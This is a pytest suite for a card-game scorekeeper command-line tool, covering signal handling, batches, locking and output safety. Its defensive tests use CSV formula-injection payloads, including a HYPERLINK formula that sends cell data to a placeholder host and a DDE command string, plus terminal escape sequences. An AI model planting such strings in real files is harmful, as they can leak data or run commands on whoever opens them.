"""The attack suite, command-line side: Ctrl-C at any point, batches that one bad sheet cannot
hide, a 10,000-sheet batch under a memory ceiling, and text that leaves scorekeeper inert
(no formulas in CSV, no escape sequences on the terminal)."""

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time

import pytest
from conftest import EXAMPLES, RULES, files_in, run

MESA1 = EXAMPLES / "king-final-nacional-mesa1.yaml"


def scorekeeper_command() -> list[str]:
    """The console script as a user runs it (its SIGINT handling lives in the script's entry)."""
    script = shutil.which("scorekeeper")
    if script is not None:
        return [script]
    return [sys.executable, "-c", "from scorekeeper.launch import main; main()"]


def write(path, text: str) -> str:
    path.write_text(text, encoding="utf-8")
    return str(path)


# --- Ctrl-C ------------------------------------------------------------------------------

# The console script's entry, telling the test (on stderr) the moment it has installed its
# SIGINT handler, so the test interrupts start-up itself (importing click, yaml and scorekeeper)
# however slow the machine is. Before that the interpreter is starting, which is Python's.
ENTRY = """
import signal, sys
from scorekeeper import launch
install = signal.signal
def announce(signum, handler):
    signal.signal = install
    previous = install(signum, handler)
    sys.stderr.write("go\\n")
    sys.stderr.flush()
    return previous
signal.signal = announce
sys.argv[0] = "scorekeeper"
launch.main()
"""


@pytest.mark.parametrize("delay", [0.0, 0.005, 0.01, 0.02, 0.03])
def test_ctrl_c_during_start_up_or_work_exits_130_quietly(delay):
    process = subprocess.Popen(
        [sys.executable, "-c", ENTRY, "show", str(MESA1)], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    assert process.stderr.readline() == b"go\n"
    time.sleep(delay)
    process.send_signal(signal.SIGINT)
    _out, err = process.communicate(timeout=30)
    assert process.returncode == 130, (process.returncode, err)  # `show` takes longer than that to start
    assert err == b"", err  # no traceback, no "Aborted!"


def record_at_its_prompt(sheet, prompt: bytes) -> subprocess.Popen:
    """`scorekeeper record SHEET` started and waiting at `prompt` (it holds the sheet's lock)."""
    process = subprocess.Popen(
        [*scorekeeper_command(), "record", str(sheet)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    deadline, seen = time.monotonic() + 20, b""
    while prompt not in seen and time.monotonic() < deadline:
        seen += os.read(process.stdout.fileno(), 4096)
    assert prompt in seen, seen
    return process


@pytest.mark.parametrize("signum, code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_ctrl_c_or_sigterm_at_the_prompt_ends_quietly_and_keeps_the_sheet(tmp_path, signum, code):
    sheet = tmp_path / "mesa.yaml"
    text = "rules: king\nplayers: [Ana, Bruno, Carla, Duarte]\nhands:\n  - {hand: vazas, counts: [3, 2, 1, 7]}\n"
    write(sheet, text)
    process = record_at_its_prompt(sheet, b"Hand 2")
    process.send_signal(signum)
    _out, err = process.communicate(timeout=30)
    assert (process.returncode, err) == (code, b"")  # no traceback, no "Aborted!"
    assert sheet.read_text(encoding="utf-8") == text
    assert files_in(tmp_path) == ["mesa.yaml"]  # no lock, no temporary file left


# --- batches -----------------------------------------------------------------------------


def test_one_unusable_sheet_does_not_hide_the_others(tmp_path):
    broken = write(tmp_path / "broken.yaml", "rules: king\nplayers: [A, B, C, D]\ndate: 2026-02-30\nhands: []\n")
    missing = str(tmp_path / "missing.yaml")
    result = run("check", MESA1, broken, missing, EXAMPLES / "king-disputed-mesa3.yaml")
    assert result.exit_code == 2
    lines = result.output.splitlines()
    assert f"{MESA1}: clean (king, complete; Ana +325, Bruno +15, Carla -285, Duarte -55)" in lines
    assert any(line.startswith(f"{EXAMPLES / 'king-disputed-mesa3.yaml'}: 11 errors, 2 warnings") for line in lines)
    assert f"Error: {missing}: no such file" in lines
    assert any(line.startswith(f"Error: {broken}:3: ") for line in lines)
    assert "internal error" not in result.output


def test_json_of_a_batch_is_one_array_with_each_failure_in_place(tmp_path):
    missing = str(tmp_path / "missing.yaml")
    result = run("check", "--format", "json", MESA1, missing, EXAMPLES / "truco-furb-partida1.yaml")
    assert result.exit_code == 2
    data = json.loads(result.stdout)
    assert [d["file"] for d in data] == [str(MESA1), missing, str(EXAMPLES / "truco-furb-partida1.yaml")]
    assert data[1] == {"file": missing, "error": f"{missing}: no such file"}
    assert data[0]["totals"] == {"Ana": 325, "Bruno": 15, "Carla": -285, "Duarte": -55}


def test_json_of_an_unusable_sheet_alone_is_still_an_array(tmp_path):
    missing = str(tmp_path / "missing.yaml")
    result = run("check", "--format", "json", missing)
    assert result.exit_code == 2
    assert json.loads(result.stdout) == [{"file": missing, "error": f"{missing}: no such file"}]
    assert result.stderr == f"Error: {missing}: no such file\n"


def test_ten_thousand_sheets_are_checked_in_the_memory_of_one(tmp_path):
    # Memory grows with one sheet, not with the batch: the JSON array is streamed.
    text = MESA1.read_text(encoding="utf-8")
    paths = []
    for i in range(10_000):
        path = tmp_path / f"s{i:05d}.yaml"
        path.write_text(text, encoding="utf-8")
        paths.append(str(path))
    probe = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run(sys.argv[1:], stdout=subprocess.PIPE)\n"
        "assert done.returncode == 0, done.returncode\n"
        "assert done.stdout.count(b'\"valid\": true') == 10000\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
    )
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", probe, *scorekeeper_command(), "check", "--format", "json", *paths],
        capture_output=True,
        text=True,
        check=True,
    )
    peak_mib = int(done.stdout) / 1024  # ru_maxrss is in KiB on Linux
    assert peak_mib < 80, f"checking 10,000 sheets peaked at {peak_mib:.0f} MiB"
    assert time.monotonic() - started < 120


# --- text that leaves scorekeeper is inert -----------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+cmd|' /C calc'!A0", "-Ana", "@SUM(A1)"]


def hostile_sheet(tmp_path) -> str:
    names = ", ".join(json.dumps(n) for n in HOSTILE)
    return write(
        tmp_path / "hostile.yaml",
        f"rules: king\nplayers: [{names}]\nevent: '=WEBSERVICE(\"x\")'\n"
        "hands:\n  - {hand: vazas, counts: [3, 2, 1, 7]}\n",
    )


def test_show_csv_is_inert_in_a_spreadsheet(tmp_path):
    result = run("show", hostile_sheet(tmp_path), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows[0] == ["#", "hand", "detail", *("'" + n for n in HOSTILE), "total", "control"]
    assert rows[1] == ["1", "vazas", "", "-60", "-40", "-20", "-140", "-260", "-260"]  # numbers stay numbers


def test_check_csv_is_inert_in_a_spreadsheet(tmp_path):
    sheet = write(
        tmp_path / "s.yaml",
        "rules: king\nplayers: [A, B, C, D]\nhands:\n  - {hand: vazas, counts: {A: 3, B: 2, C: 1, '=D': 7}}\n",
    )
    result = run("check", sheet, "--format", "csv")
    assert result.exit_code == 1
    rows = list(csv.reader(io.StringIO(result.output)))
    assert [row[4] for row in rows[1:]] == ["'=D", "D"]


def test_a_name_that_looks_like_a_signed_number_is_text_in_csv(tmp_path):
    # A spreadsheet turns `-1` or `+1` into a number: a name is quoted, points stay numbers.
    sheet = write(
        tmp_path / "s.yaml",
        'rules: king\nplayers: ["-1", "+1", "=1", "@x"]\nhands:\n'
        "  - {hand: vazas, counts: [3, 2, 1, 7]}\n"
        '  - {hand: copas, counts: {"-1": 1, "+1": 1, "=1": 1}}\n',
    )
    rows = list(csv.reader(io.StringIO(run("show", sheet, "--format", "csv").output)))
    assert rows[0] == ["#", "hand", "detail", "'-1", "'+1", "'=1", "'@x", "total", "control"]
    assert rows[1] == ["1", "vazas", "", "-60", "-40", "-20", "-140", "-260", "-260"]
    rows = list(csv.reader(io.StringIO(run("check", sheet, "--format", "csv").output)))
    assert [row[4] for row in rows[1:]] == ["'@x"]
    five = write(
        tmp_path / "q.yaml",
        'rules: quatrilho\nplayers: ["-1", "+1", "=1", "@x", "-2"]\ndeals:\n'
        '  - {contract: normal, caller: "+1", partner: "=1", figuras: 22}\n',
    )
    rows = list(csv.reader(io.StringIO(run("show", five, "--format", "csv").output)))
    assert rows[1][:3] + rows[1][5:] == ["1", "1", "'-1", "", "+7", "+7", "-7", "-7", "0"]  # the dealer: a name
    tournament = tmp_path / "t.yaml"
    assert (
        run(
            "tournament",
            "new",
            "king",
            "--name",
            "T",
            "--rounds",
            "1",
            *("-p", "-1", "-p", "+1", "-p", "=1"),
            "-p",
            "2",
            "-o",
            tournament,
        ).exit_code
        == 0
    )
    rows = list(csv.reader(io.StringIO(run("tournament", "standings", tournament, "--format", "csv").stdout)))
    assert rows == [
        ["place", "player", "points", "decided by"],
        ["1", "'-1", "0", "tied"],
        ["1", "'+1", "0", "tied"],
        ["1", "'=1", "0", "tied"],
        ["1", "'2", "0", ""],
    ]  # WR5: the player 2 is a name


def test_a_name_that_looks_like_a_number_is_text_in_csv_and_numbers_stay_numbers(tmp_path):
    # WR5: the players 1, 0 and 2.5 came out as 1, 0 and 2.5, numbers once a spreadsheet opens them.
    sheet = write(
        tmp_path / "s.yaml",
        'rules: king\nplayers: ["1", "0", "2.5", "1e3"]\nhands:\n'
        "  - {hand: vazas, counts: [3, 2, 1, 7]}\n"
        '  - {hand: copas, counts: {"1": 1, "0": 1, "2.5": 1}}\n',
    )
    rows = list(csv.reader(io.StringIO(run("show", sheet, "--format", "csv").output)))
    assert rows[0] == ["#", "hand", "detail", "'1", "'0", "'2.5", "'1e3", "total", "control"]
    assert rows[1] == ["1", "vazas", "", "-60", "-40", "-20", "-140", "-260", "-260"]
    rows = list(csv.reader(io.StringIO(run("check", sheet, "--format", "csv").output)))
    assert [(row[3], row[4]) for row in rows[1:]] == [("2", "'1e3")]  # the hand a number, the player a name
    assert rows[1][1] == "error"


def test_escape_sequences_in_what_a_sheet_says_are_shown_escaped(tmp_path):
    # A name cannot hold them (names.py: the loader refuses it in one line); a hand's name can.
    sheet = write(
        tmp_path / "esc.yaml",
        "rules: king\nplayers: [Ana, Bruno, Carla, Duarte]\nhands:\n"
        "  - {hand: vazas, counts: [3, 2, 1, 7]}\n"
        '  - {hand: "A\\e[31mB\\u2028C\\x85D\\x07", counts: [1, 1, 1, 10]}\n',
    )
    for args in (
        ["show", sheet],
        ["check", sheet],
        ["show", sheet, "--format", "csv"],
        ["check", sheet, "--format", "table"],
        ["record", sheet, "copas", "1", "1", "1", "10", "--force"],
    ):
        result = run(*args)
        assert result.exit_code in (0, 1), result.output
        for raw in ("\x1b", "\u2028", "\x85", "\x07"):
            assert raw not in result.output, (args, result.output)
    shown = run("show", sheet).output
    assert "A\\x1b[31mB\\u2028C\\x85D\\x07" in shown
    named = write(tmp_path / "name.yaml", 'rules: king\nplayers: ["A\\e[31mna", Bruno, Carla, Duarte]\nhands: []\n')
    assert (
        run("show", named).output == f"Error: {named}:2: players: the name 'A\\x1b[31mna' holds a control character\n"
    )


def test_json_never_carries_raw_line_separators_or_c1_controls(tmp_path):
    # A hand's name is the sheet's own text, shown as written (a header text is refused: WR3).
    sheet = write(
        tmp_path / "esc.yaml",
        "rules: king\nplayers: [Ana, Bruno, Carla, Duarte]\nhands:\n"
        '  - {hand: "A\\u2028na B\\x85 C\\x9b D\\x7f", counts: [1, 1, 1, 10]}\n',
    )
    result = run("check", sheet, "--format", "json")
    assert result.exit_code == 1
    for raw in ("\u2028", "\x85", "\x9b", "\x7f"):
        assert raw not in result.output
    assert json.loads(result.output)[0]["hands"][0]["hand"] == "A\u2028na B\x85 C\x9b D\x7f"


# --- every writer takes the lock -------------------------------------------------------------


def test_new_import_and_export_with_force_wait_for_the_writer_lock(tmp_path):
    from scorekeeper.sheet.saving import writer_lock

    sheet = tmp_path / "mesa.yaml"
    text = "rules: king\nplayers: [Ana, Bruno, Carla, Duarte]\nhands:\n  - {hand: vazas, counts: [3, 2, 1, 7]}\n"
    write(sheet, text)
    workbook = tmp_path / "b.xlsx"
    assert run("export", "--blank", "king", "-p", "A", "-p", "B", "-p", "C", "-p", "D", "-o", workbook).exit_code == 0
    with writer_lock(str(sheet)):  # a `record` is saving this sheet
        for args in (
            ["new", "king", "-p", "A", "-p", "B", "-p", "C", "-p", "D", "-o", sheet, "--force"],
            ["import", workbook, "-o", sheet, "--force"],
        ):
            result = run(*args)
            assert result.exit_code == 2, result.output
            assert result.output.startswith(f"Error: {sheet}: another scorekeeper is writing this file")
            assert sheet.read_text(encoding="utf-8") == text
    before = workbook.read_bytes()
    with writer_lock(str(workbook)):  # another export is writing this workbook
        result = run("export", MESA1, "-o", workbook, "--force")
        assert result.exit_code == 2, result.output
        assert result.output.startswith(f"Error: {workbook}: another scorekeeper is writing this file")
    assert workbook.read_bytes() == before
    assert run("new", "king", "-p", "A", "-p", "B", "-p", "C", "-p", "D", "-o", sheet, "--force").exit_code == 0
    assert files_in(tmp_path) == ["b.xlsx", "mesa.yaml"]


# --- a house variant through a workbook ---------------------------------------------------


def test_a_house_variant_survives_export_and_import_with_rules_path(tmp_path):
    rules_text = RULES / "king.yaml"
    house = tmp_path / "clube.yaml"
    house.write_text(
        rules_text.read_text(encoding="utf-8").replace("name: king\n", "name: king-clube\n", 1), encoding="utf-8"
    )
    sheet = write(
        tmp_path / "m.yaml", MESA1.read_text(encoding="utf-8").replace("rules: king\n", "rules: clube.yaml\n")
    )
    workbook = tmp_path / "m.xlsx"
    assert run("export", sheet, "-o", workbook).exit_code == 0
    refused = run("check", workbook)
    assert refused.exit_code == 2
    assert refused.output == (
        f"Error: {workbook}:Mesa1 R1!C3: Regras: unknown rules 'king-clube'; known: king, "
        "quatrilho, sueca, truco; `--rules PATH` gives a house variant\n"
    )
    back = tmp_path / "back.yaml"
    done = run("import", workbook, "--rules", house, "-o", back)
    assert done.output == f"Wrote {back}\n"
    assert back.read_text(encoding="utf-8").splitlines()[0] == "rules: clube.yaml"
    assert (
        run("check", back).output == f"{back}: clean (king-clube, complete; Ana +325, Bruno +15, Carla -285, "
        "Duarte -55)\n"
    )
    (tmp_path / "sub").mkdir()
    elsewhere = tmp_path / "sub" / "b.yaml"
    done = run("import", workbook, "--rules", house, "-o", elsewhere)
    assert done.output == f"Wrote {elsewhere}; its rules are outside its folder: check it with --rules {house}\n"
    assert run("check", elsewhere, "--rules", house).exit_code == 0


def test_a_reader_that_goes_away_is_no_error():
    # `show | head -1`: the closed pipe ends the command quietly, not with "Error: ... Broken pipe".
    shell = f"{' '.join(scorekeeper_command())} show {MESA1} | head -1"
    done = subprocess.run(
        ["bash", "-c", shell], capture_output=True, text=True, timeout=60, env={**os.environ, "COLUMNS": "80"}
    )
    assert done.stdout.split() == ["#", "hand", "Ana", "Bruno", "Carla", "Duarte", "total", "control"]
    assert done.stderr == ""
    shell += "; exit ${PIPESTATUS[0]}"  # WR1: and ends as show ends, 0 (it was click's 1 for EPIPE)
    assert subprocess.run(["bash", "-c", shell], capture_output=True, timeout=60).returncode == 0


def to_a_closed_reader(*args) -> tuple[int, str]:
    """The console script run with its standard output a pipe whose reader is already gone
    (`| true` that won the race): every write fails with EPIPE."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        done = subprocess.run(
            [*scorekeeper_command(), *map(str, args)], stdout=write_end, stderr=subprocess.PIPE, text=True, timeout=60
        )
    finally:
        os.close(write_end)
    return done.returncode, done.stderr


def test_a_reader_gone_before_the_report_leaves_the_status_the_work_deserves(tmp_path):
    # WR1: `record s.yaml ... | true` saved the hand and exited 1 (click's answer to EPIPE);
    # the closed pipe now drops the output unsaid and the status is the command's own.
    sheet = tmp_path / "s.yaml"
    assert to_a_closed_reader("new", "king", "-p", "A", "-p", "B", "-p", "C", "-p", "D", "-o", sheet) == (0, "")
    assert to_a_closed_reader("record", sheet, "damas", "1", "1", "1", "1") == (0, "")
    assert sheet.read_text(encoding="utf-8").endswith("hands:\n  - {hand: damas, counts: [1, 1, 1, 1]}\n")
    assert to_a_closed_reader("show", sheet) == (0, "")
    assert to_a_closed_reader("check", sheet, "--format", "json") == (0, "")
    # a refusal is still a refusal, said on standard error, which is open
    assert to_a_closed_reader("record", sheet, "damas", "1", "1", "1", "1")[0] == 2
    assert to_a_closed_reader("record", sheet, "damas", "1", "1", "1", "1", "--force") == (0, "")
    assert to_a_closed_reader("check", sheet) == (1, "")  # damas twice (Art 8): the findings' status
    assert to_a_closed_reader("undo", sheet) == (0, "")
    assert sheet.read_text(encoding="utf-8").endswith("hands:\n  - {hand: damas, counts: [1, 1, 1, 1]}\n")


# --- what new writes, check reads back; nothing typed reaches the terminal raw -----------------


def test_new_never_writes_a_sheet_that_check_would_refuse(tmp_path):
    sheet = tmp_path / "h.yaml"
    king = ["new", "king", "-p", "A", "-p", "B", "-p", "C", "-p", "D", "-o", sheet]
    result = run(*king, "--table", "9" * 5000)  # was an internal error (Python's int digit limit)
    assert (result.exit_code, result.output) == (
        2,
        f"Error: {sheet}: --table: 5,000 characters; a header holds at most 200\n",
    )
    assert run(*king, "--table", "9" * 20).exit_code == 0  # more digits than a score: kept as text
    assert run("check", sheet).output == f"{sheet}: clean (king, in progress, 0 hands recorded; A 0, B 0, C 0, D 0)\n"
    for name, why in (
        ("B\u2029C", "holds a control character"),
        ("C\x85D", "holds a control character"),
        ("F\udc9bG", "is not UTF-8 text"),
    ):  # NEL would come back as a space: another name
        other = tmp_path / "o.yaml"
        refused = run("new", "king", "-p", "A", "-p", name, "-p", "C", "-p", "D", "-o", other)
        assert refused.exit_code == 2 and why in refused.output and refused.output.count("\n") == 1, refused.output
        assert not other.exists()


@pytest.mark.parametrize(
    "args, message",
    [
        (["king", "--event", "X\x01Y"], "event 'X\\x01Y' holds a control character"),  # said no file at all
        (["king", "--round", "R\udcff"], "round 'R\\udcff' is not UTF-8 text"),
        (["king", "--table", "7" * 201], "--table: 201 characters; a header holds at most 200"),
        (["bisca"], "unknown rules 'bisca'; known: king, quatrilho, sueca, truco (or a path to a rule file)"),
    ],
)
def test_every_refusal_of_new_names_the_sheet(tmp_path, args, message):
    sheet = tmp_path / "n.yaml"
    result = run("new", *args, "-p", "A", "-p", "B", "-p", "C", "-p", "D", "-o", sheet)
    assert (result.exit_code, result.output) == (2, f"Error: {sheet}: {message}\n")
    assert not sheet.exists()


def test_a_file_name_that_is_no_utf8_is_shown_escaped(tmp_path):
    name = os.fsdecode(b"bad\xff\x9b.yaml")
    sheet = tmp_path / name
    sheet.write_text(MESA1.read_text(encoding="utf-8"), encoding="utf-8")
    text = run("check", sheet)
    assert "bad\\xff\\x9b.yaml: clean" in text.output and "\udcff" not in text.output
    data = run("check", sheet, "--format", "json").stdout
    assert "\\udcff\\udc9b" in data and "\udcff" not in data


def test_fix_bounds_its_hand_number_before_reading_it(tmp_path):
    sheet = write(tmp_path / "s.yaml", MESA1.read_text(encoding="utf-8"))
    result = run("fix", sheet, "9" * 5000, "vazas", "3", "2", "1", "7")
    assert (result.exit_code, result.output) == (
        2,
        f"Error: {sheet}: N, the hand to correct: a number of 5000 digits is out of range (1 or more)\n",
    )
    assert (
        run("fix", sheet, "0", "vazas", "3", "2", "1", "7").output
        == f"Error: {sheet}: N, the hand to correct: 0 is out of range (1 or more)\n"
    )


def test_an_endless_answer_is_refused_not_read(tmp_path):
    sheet = write(tmp_path / "mesa.yaml", "rules: king\nplayers: [Ana, Bruno, Carla, Duarte]\nhands: []\n")
    started = time.monotonic()
    with open("/dev/zero", "rb") as zeros:
        done = subprocess.run([*scorekeeper_command(), "record", sheet], stdin=zeros, capture_output=True, timeout=30)
    assert time.monotonic() - started < 10
    assert done.returncode == 2
    assert (
        done.stderr == b"Error: standard input: an answer of more than 1,000 characters is not a hand; nothing "
        b"more is read\n"
    )
    assert files_in(tmp_path) == ["mesa.yaml"]
